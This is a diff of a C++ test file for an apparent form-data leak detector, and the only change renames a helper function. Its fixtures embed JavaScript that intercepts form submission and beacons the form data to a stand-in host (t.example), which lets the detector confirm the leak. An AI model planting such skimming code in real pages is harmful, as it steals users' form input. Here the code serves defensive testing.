@@ -12,7 +12,7 @@ using namespace formleak::test;
 namespace {
 
 // "field kind" of what is seen leaving.
-std::set<std::string> seen_leaving(const Json& report) {
+std::set<std::string> kinds_leaving(const Json& report) {
     std::set<std::string> out;
     for (const Json& leak : report["leaks"].items())
         if (leak["basis"].as_text() == "observed")
@@ -26,7 +26,7 @@ std::set<std::string> seen_leaving(const std::string& form, const std::string& s
                            "<button>Skicka</button></form><script>document.forms[0].onsubmit=e=>{"
                            "e.preventDefault();const f=e.target,d=new FormData(f);" +
                            script + "}</script>"));
-    return seen_leaving(verify(site).report);
+    return kinds_leaving(verify(site).report);
 }
 
 const std::string kPairs = "navigator.sendBeacon('https://t.example/e',JSON.stringify([...d]))",
@@ -98,6 +98,6 @@ TEST_CASE("attribution: a field is filled with what stands beside it") {
                                "<button>Skicka</button></form>`;document.forms[0].onsubmit=e=>{"
                                "e.preventDefault();const f=e.target;" +
                                send + "}</script>"));
-        CHECK(seen_leaving(verify(site).report).contains("f3 email"));
+        CHECK(kinds_leaving(verify(site).report).contains("f3 email"));
     }
 }
